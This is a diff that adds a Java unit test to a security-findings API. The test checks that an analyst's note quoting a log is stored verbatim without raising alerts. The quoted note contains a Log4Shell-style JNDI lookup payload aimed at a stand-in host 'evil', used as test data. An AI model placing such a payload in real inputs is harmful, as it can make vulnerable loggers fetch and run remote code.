@@ -189,6 +189,18 @@ final class ThreatsTest {
   }
 
   @Test
+  void a_note_may_quote_a_log_and_nobody_is_suspected_for_it() {
+    FindingRecord record = api.opened(ADDRESS, 0, Severity.MEDIUM);
+    String note = "the payload was ${jndi:ldap://evil/a} in the header";
+
+    Call call =
+        resolve(record, "\"1\"", "{\"verdict\":\"truePositive\",\"note\":\"" + note + "\"}");
+
+    assertThat(call.body().at("/resolution/note").asText()).isEqualTo(note);
+    assertThat(api.signals).isEmpty();
+  }
+
+  @Test
   void a_verdict_holds_although_the_bus_does_not_answer() {
     TestSecurityApi deaf =
         new TestSecurityApi(
